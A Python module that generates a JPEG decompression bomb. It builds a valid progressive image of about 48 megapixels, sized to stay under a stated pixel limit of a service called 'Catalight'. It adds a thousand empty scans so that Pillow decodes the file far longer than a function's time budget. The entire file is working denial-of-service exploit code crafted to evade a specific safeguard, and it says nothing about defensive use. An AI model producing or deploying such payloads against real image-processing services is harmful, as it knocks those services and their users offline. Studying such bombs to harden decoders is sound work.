"""A decompression bomb: a small, valid JPEG of a thousand scans that each visit every block of the image.

All scans are complete and empty, so Pillow has no reason to refuse the file, and decodes it for longer than
any function may run. ITU-T T.81 defines the markers (table B.1) and the end-of-band runs (G.1.2.2).
"""

import struct

SIDE = 6928  # pixels; 48 megapixels, below Catalight's limit
SCANS = 1000
BLOCK = 8

_END_OF_BAND_RUN = 0xE0  # EOB14: 14 more bits give the number of blocks beyond 16,384
_LONGEST_RUN = 0x7FFF


def draw(side: int = SIDE, scans: int = SCANS) -> bytes:
    """Return a grey progressive JPEG of `side` x `side` pixels with `scans` scans that change nothing."""
    blocks = (-(-side // BLOCK)) ** 2
    return b"".join(
        (
            b"\xff\xd8",
            _segment(0xDB, bytes([0]) + bytes([1]) * 64),
            _segment(0xC2, struct.pack(">BHHBBBB", 8, side, side, 1, 1, 0x11, 0)),
            _segment(0xC4, _table(0x00, 0)),
            _segment(0xC4, _table(0x10, _END_OF_BAND_RUN)),
            _scan(first=0, last=0, bits="0" * blocks),
            _scan(first=1, last=63, bits=_end_of_band_runs(blocks), approximation=0x01),
            _scan(first=1, last=63, bits=_end_of_band_runs(blocks), approximation=0x10) * scans,
            b"\xff\xd9",
        )
    )


def _segment(marker: int, body: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body


def _table(name: int, symbol: int) -> bytes:
    """Return a Huffman table of one symbol, whose code is the bit 0."""
    return bytes([name, 1, *[0] * 15, symbol])


def _scan(first: int, last: int, bits: str, approximation: int = 0) -> bytes:
    """Return one scan of coefficients `first` to `last`: padded with ones, and 0xFF is escaped."""
    header = _segment(0xDA, bytes([1, 1, 0x00, first, last, approximation]))
    padded = bits + "1" * (-len(bits) % 8)
    data = int(padded, 2).to_bytes(len(padded) // 8, "big")
    return header + data.replace(b"\xff", b"\xff\x00")


def _end_of_band_runs(blocks: int) -> str:
    """Return end-of-band runs over all blocks."""
    full, rest = divmod(blocks, _LONGEST_RUN)
    runs = [_LONGEST_RUN] * full + ([rest] if rest else [])
    assert not rest or rest >= 1 << 14, "the last run is too short for the only symbol of the table"
    return "".join(f"0{run - (1 << 14):014b}" for run in runs)
